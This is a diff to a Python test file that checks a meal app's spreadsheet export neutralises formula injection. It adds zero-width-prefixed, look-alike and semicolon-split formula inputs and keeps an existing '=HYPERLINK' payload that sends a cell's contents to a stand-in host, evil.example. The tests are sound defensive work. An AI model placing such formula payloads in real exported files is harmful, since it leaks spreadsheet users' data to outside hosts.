@@ -66,6 +66,11 @@ async def test_without_meals_there_are_the_names_of_the_columns(stream, joined):
         "＋1",
         "－1",
         "＠A1",
+        "\u200b=1",
+        "\ufeff \u2060=1",
+        "\u00ad+1",
+        "﹦1",
+        "\u22121",
         '=HYPERLINK("https://evil.example?"&A1)',
     ],
 )
@@ -74,7 +79,24 @@ async def test_what_a_spreadsheet_would_run_is_text(read, new_meal, text):
     assert row["food"] == row["note"] == f"'{text}"
 
 
-@pytest.mark.parametrize("text", ["밥", "1+1", "a=b", "김치-찌개", "'quoted", '"a", b', "두\n줄"])
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("밥;=1", "밥;'=1"),
+        (";\u200b =1;+2", ";\u200b '=1;'+2"),
+        ("밥\n=1", "밥\n'=1"),
+        ("밥\r\n\t@A1", "밥\r\n\t'@A1"),
+        ("=1;=2", "'=1;'=2"),
+    ],
+)
+async def test_nor_where_it_divides_lists_by_semicolons(read, new_meal, text, written):
+    (row,) = await read(new_meal(Food("밥", 1), note=text))
+    assert row["note"] == written
+
+
+@pytest.mark.parametrize(
+    "text", ["밥", "1+1", "a=b", "김치-찌개", "'quoted", '"a", b', "두\n줄", "밥; 국"]
+)
 async def test_other_text_is_as_it_was(read, new_meal, text):
     (row,) = await read(new_meal(Food("밥", 1), note=text))
     assert row["note"] == text
